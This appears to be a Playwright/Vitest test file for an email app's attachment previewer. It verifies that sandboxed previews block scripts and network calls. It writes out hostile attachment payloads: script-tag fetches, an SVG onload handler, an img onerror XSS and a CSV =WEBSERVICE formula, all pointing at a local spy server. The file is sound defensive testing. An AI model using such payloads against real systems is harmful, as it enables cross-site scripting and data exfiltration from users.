import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Frame, Request } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { launchChromium, newVisitor, type Visitor } from '../support/chromium.ts';
import { enter, openEnvelope } from '../support/journey.ts';
import { referenceOf, sendAndWait } from '../support/letters.ts';
import { evilPdf } from '../support/previewed-files.ts';
import { withSharedPli } from '../support/with-pli.ts';
import { words } from '../support/words.ts';

const framed = 'iframe[sandbox="allow-scripts"]';

describe('a file that attacks who looks at it', () => {
  const running = withSharedPli();
  let browser: Browser;
  let reader: Visitor;
  let spy: Server;
  let spyUrl: string;
  let reference: string;
  const spied: string[] = [];
  const dialogs: string[] = [];
  const asked: Request[] = [];

  beforeAll(async () => {
    spy = createServer((request, response) => {
      spied.push(request.url ?? '');
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
    });
    await new Promise<void>((resolve) => spy.listen(0, '127.0.0.1', resolve));
    spyUrl = `http://127.0.0.1:${(spy.address() as AddressInfo).port}`; // a TCP server's address
    const script = `<script>parent.pwned = 1; fetch('${spyUrl}/html')</script><img src="${spyUrl}/img">`;
    const bytes = (text: string) => new TextEncoder().encode(text);
    const { email } = running.pli.account('member', 1);
    const letter = await sendAndWait(running, await running.person(running.pli.account('member', 0)), {
      recipients: [{ address: email, kind: 'to' }],
      files: [
        { name: 'honnete.pdf', mediaType: 'application/pdf', bytes: evilPdf(spyUrl) },
        { name: 'page.pdf', mediaType: 'application/pdf', bytes: bytes(`<html>${script}</html>`) },
        {
          name: 'dessin.svg',
          mediaType: 'image/svg+xml',
          bytes: bytes(`<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned=1">${script}</svg>`),
        },
        { name: 'photo.png', mediaType: 'image/png', bytes: bytes(`<html>${script}</html>`) },
        {
          name: 'tableau.csv',
          mediaType: 'text/csv',
          bytes: bytes(`a;b\n<img src=x onerror="parent.pwned=1">;=WEBSERVICE("${spyUrl}/csv")\n`),
        },
        { name: 'faux.pdf', mediaType: 'application/pdf', bytes: bytes('%PDF-1.7\nrien de cela') },
      ],
    });
    browser = await launchChromium();
    reader = await newVisitor(browser, running.pli.url);
    // what the attempts below are refused is written there
    reader.expectComplaint(/Content Security Policy|Refused to|sandboxed|Blocked|Unsafe attempt|Failed to/);
    const { page } = reader;
    await enter(page, running.pli.account('member', 1));
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => asked.push(request));
    reference = referenceOf(letter, email);
  });
  afterAll(async () => {
    await reader?.leave();
    await browser?.close();
    spy?.close();
  });

  const look = async (name: string) => {
    await reader.page.getByRole('button', { name, exact: true }).click();
    await reader.page.getByRole('dialog', { name }).waitFor();
  };
  /** Requests that went to another server. The browser also reports those that its policy refused before they left; these failed as `csp`. */
  const elsewhere = () =>
    asked
      .filter((request) => !request.url().startsWith(running.pli.url))
      .filter((request) => !/^(blob|data|about):/.test(request.url()))
      .map((request) => `${request.url()} ${request.failure()?.errorText ?? 'left'}`)
      .filter((ended) => !ended.endsWith(' csp'));
  const nothingHappened = async () => {
    await reader.page.waitForTimeout(1_000); // time for what must not happen
    expect(spied).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(await reader.page.evaluate('window.pwned')).toBeUndefined();
    expect(new URL(reader.page.url()).pathname).toMatch(/^\/e\//);
    expect(reader.page.context().pages()).toHaveLength(1);
    expect(elsewhere()).toEqual([]);
  };
  // by the pointer: the focus may be in a frame that is there no more
  const close = async () => {
    await reader.page.getByRole('button', { name: words('fr', 'open.preview.close') }).click();
    await reader.page.getByRole('dialog').waitFor({ state: 'detached' });
  };
  /** The frame in which a PDF that attacks is drawn. */
  const lookAtPdf = async (): Promise<Frame> => {
    await look('honnete.pdf');
    const inFrame = reader.page.frameLocator(framed);
    await inFrame.locator('.page[data-drawn]').waitFor({ timeout: 60_000 });
    const frame = await (await reader.page.locator(framed).elementHandle())?.contentFrame();
    if (!frame) throw new Error('no frame');
    return frame;
  };

  // each begins anew, whatever the one before left open
  beforeEach(async () => {
    await reader.page.goto(`/e/${reference}`);
    await openEnvelope(reader.page);
  });

  test('a PDF with scripts, addresses, forms and a picture elsewhere is drawn: nothing runs, nothing is fetched, no link leads anywhere', async () => {
    await lookAtPdf();
    const content = reader.page.frameLocator(framed);
    await content.locator('.textLayer', { hasText: 'texte honnête' }).waitFor();
    expect(await content.locator('a, input, form, iframe, object, embed, img, link').count()).toBe(0);
    await content.locator('.page').click();
    await nothingHappened();
  });

  test('whatever ran in the frame would have no network, no origin, no way to the page and none to another address', async () => {
    const frame = await lookAtPdf();
    const tried = await frame.evaluate(async (url) => {
      const fails = async (attempt: () => unknown) => {
        try {
          await attempt();
          return 'worked';
        } catch {
          return 'refused';
        }
      };
      const loads = (element: HTMLElement) =>
        new Promise((resolve, reject) => {
          element.onload = resolve;
          element.onerror = reject;
          document.body.append(element);
        });
      const worker = () =>
        new Promise((resolve, reject) => {
          const source = `fetch('${url}/worker').then(() => postMessage('worked'), () => postMessage('refused'))`;
          const made = new Worker(URL.createObjectURL(new Blob([source])));
          made.onmessage = ({ data }) => (data === 'worked' ? resolve(data) : reject(data));
          made.onerror = reject;
        });
      const found = {
        fetch: await fails(() => fetch(`${url}/fetch`)),
        own: await fails(() => fetch('/api/session')),
        image: await fails(() => loads(Object.assign(new Image(), { src: `${url}/image` }))),
        script: await fails(() =>
          loads(Object.assign(document.createElement('script'), { src: `${url}/script` })),
        ),
        style: await fails(() =>
          loads(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${url}/style` })),
        ),
        worker: await fails(worker),
        socket: await fails(
          () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket(url.replace('http', 'ws'));
              socket.onopen = resolve;
              socket.onerror = reject;
            }),
        ),
        cookie: await fails(() => document.cookie),
        storage: await fails(() => window.localStorage.length),
        parent: await fails(() => window.parent.document.title),
        top: await fails(() => {
          (window.top as Window).location.href = `${url}/top`;
        }),
        origin: window.origin,
      };
      window.open(`${url}/window`);
      navigator.sendBeacon?.(`${url}/beacon`);
      return found;
    }, spyUrl);
    expect(tried).toEqual({
      fetch: 'refused',
      own: 'refused',
      image: 'refused',
      script: 'refused',
      style: 'refused',
      worker: 'refused',
      socket: 'refused',
      cookie: 'refused',
      storage: 'refused',
      parent: 'refused',
      top: 'refused',
      origin: 'null',
    });
    await frame
      .evaluate((url) => {
        window.location.href = `${url}/gone`;
      }, spyUrl)
      .catch(() => undefined);
    await nothingHappened();
    await close();
  });

  for (const [name, lie] of [
    ['page.pdf', 'PDF'],
    ['photo.png', 'PNG'],
    ['dessin.svg', null],
  ] as const)
    test(`${name} that is HTML or SVG is shown as its text${lie ? ', and the lie of its name said' : ''}`, async () => {
      const { page } = reader;
      await look(name);
      await page.locator('pre', { hasText: '<script>' }).waitFor();
      expect(await page.getByRole('dialog').locator('iframe').count()).toBe(0);
      expect(await page.getByText(`Son nom le dit ${lie}`).count()).toBe(lie ? 1 : 0);
      await nothingHappened();
      await close();
    });

  test('cells of a table are text', async () => {
    const { page } = reader;
    await look('tableau.csv');
    await page.getByRole('cell', { name: '=WEBSERVICE' }).waitFor();
    await page.getByRole('cell', { name: '<img src=x' }).waitFor();
    await nothingHappened();
    await close();
  });

  test('a file that only begins like a PDF is said to be damaged', async () => {
    const { page } = reader;
    await look('faux.pdf');
    await page.getByText('Ce fichier est abîmé').waitFor({ timeout: 60_000 });
    await nothingHappened();
    await close();
  });
});
